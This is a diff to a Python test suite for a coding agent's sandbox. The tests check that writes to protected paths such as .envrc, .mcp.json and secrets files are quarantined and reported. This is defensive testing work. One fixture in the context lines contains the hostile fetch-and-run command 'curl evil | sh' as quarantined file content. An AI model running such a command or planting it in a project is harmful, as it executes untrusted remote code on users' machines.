@@ -21,8 +21,9 @@ from tests.gitrepo import git
 from tests.test_hostile_delayed import digest
 from tui_agent.cli import main
 from tui_agent.core.project import Project
-from tui_agent.core.sandbox import Sandbox, SandboxPolicy
+from tui_agent.core.sandbox import Sandbox, SandboxPolicy, overlay as overlays
 from tui_agent.core.sandbox import Snippet
+from tui_agent.core.sandbox.harvest import harvest
 
 TIERS = ["bubblewrap", "rlimits"]
 WRITABLE = SandboxPolicy(timeout_s=20, project_writable=True)
@@ -124,7 +125,8 @@ def test_a_run_killed_with_tuiagent_is_swept_at_the_next_start(repo: Path, tmp_p
         time.sleep(0.05)
     running.send_signal(signal.SIGKILL)  # no finally block runs: only the records can bring the writes and sweep back
     running.wait()
-    assert len(list((repo / ".agent/cache/sweeps").iterdir())) == 1
+    records = [*(repo / ".agent/cache/sweeps").glob("*.json"), *(repo / ".agent/cache/overlays").glob("*.json")]
+    assert records  # a sweep's record without an overlay, the overlay's own through one (its harvest refuses them)
     noop = tmp_path / "noop.py"
     noop.write_text("pass\n")
     command = [str(noop) if part == "NOOP" else part for part in next_command]
@@ -134,7 +136,7 @@ def test_a_run_killed_with_tuiagent_is_swept_at_the_next_start(repo: Path, tmp_p
     assert [p.read_text() for p in (repo / ".agent/quarantine").glob("*/.envrc")] == ["evil"]
     assert "agent code created the protected path .envrc; moved to .agent/quarantine/" in done.stderr
     assert "(a run interrupted earlier)" in done.stderr and "secrets/a.env" in done.stderr
-    assert list((repo / ".agent/cache/sweeps").iterdir()) == []
+    assert not any(record.exists() for record in records)
     assert (repo / "started").read_text() == token  # what the killed run wrote (outside protected paths) was applied
 
 
@@ -217,3 +219,53 @@ async def test_the_missing_target_of_a_protected_symlink_is_watched_too(repo: Pa
     assert not (repo / "env/dev.envrc").exists() and os.readlink(repo / ".envrc") == "env/dev.envrc"
     assert [p.read_text() for p in (repo / ".agent/quarantine").glob("*/env/dev.envrc")] == ["curl evil | sh"]
     assert "agent code created the protected path env/dev.envrc" in result.stderr
+
+
+def test_the_harvest_itself_refuses_protected_paths_and_quarantines_a_copy(repo: Path, tmp_path: Path) -> None:
+    """Through an overlay no protected path reaches the project, not even until a sweep: the harvest refuses each one
+    the run created or replaced (a protected symlink stays as it was), copies it to one quarantine folder and says so
+    as the sweep does; the rest of what the run wrote is applied."""
+    prepare(repo)
+    before = user_tree(repo)
+    upper = tmp_path / "upper"
+    for path, content in {**CREATES, **ORDINARY}.items():
+        (upper / path).parent.mkdir(parents=True, exist_ok=True)
+        (upper / path).write_text(content)
+    found = harvest(upper, repo, since_ns=time.time_ns(), aside=tmp_path / "aside", rootless=False,
+                    start=overlays.LowerState.take(repo))
+    assert user_tree(repo) == {**before, **{path: digest(repo / path) for path in ORDINARY}}
+    assert os.readlink(repo / ".envrc") == "env/dev.envrc" and sorted(found.paths) == sorted(ORDINARY)
+    folders = list((repo / ".agent/quarantine").iterdir())
+    assert len(folders) == 1 and all((folders[0] / path).read_text() == text for path, text in CREATES.items())
+    by_path = {note.split("the protected path ")[1].split(";")[0]: note for note in found.notes}
+    assert sorted(by_path) == sorted(MOVED) and len(found.notes) == len(MOVED), found.notes
+    shown = folders[0].relative_to(repo)
+    for path, note in by_path.items():
+        assert note.startswith(f"agent code {'replaced' if path == '.envrc' else 'created'} the protected path {path}; "
+                               f"moved to {shown}/{path}"), note
+    assert "the symlink to env/dev.envrc was put back" in by_path[".envrc"]
+
+
+async def test_a_run_whose_overlay_failed_is_checked_against_the_stamps_of_its_start(repo: Path) -> None:
+    """The overlay failed to mount and the run went again without one, unfenced (dispatch.py): what it created at
+    protected paths is still moved away, what it changed among the ignored files still told."""
+    project = prepare(repo)
+    (repo / ".gitignore").write_text("build/\n")
+    box = await Sandbox.start(project, tier="rlimits", warm_workers=0)
+    try:
+        lower = box.runs.lower()
+        (repo / ".mcp.json").write_text("{}")  # what the run wrote straight into the project
+        (repo / "secrets" / "new.env").write_text("KEY=2\n")
+        (repo / "build").mkdir()
+        (repo / "build" / "out.txt").write_text("built\n")
+        (repo / "notes.md").write_text("fine\n")
+        notes = box.runs.after_fallback(lower)
+        changes = box.take_ignored_changes()
+    finally:
+        await box.aclose()
+    assert not (repo / ".mcp.json").exists() and not (repo / "secrets" / "new.env").exists()
+    assert (repo / "notes.md").read_text() == "fine\n"
+    assert [p.read_text() for p in (repo / ".agent/quarantine").glob("*/.mcp.json")] == ["{}"]
+    assert any(note.startswith("agent code created the protected path secrets/new.env; moved to") for note in notes)
+    assert [(change.path, change.change) for change in changes] == [("build/out.txt", "created")]
+    assert any("build/out.txt (created)" in note for note in notes) and notes == box.notices[-len(notes):]
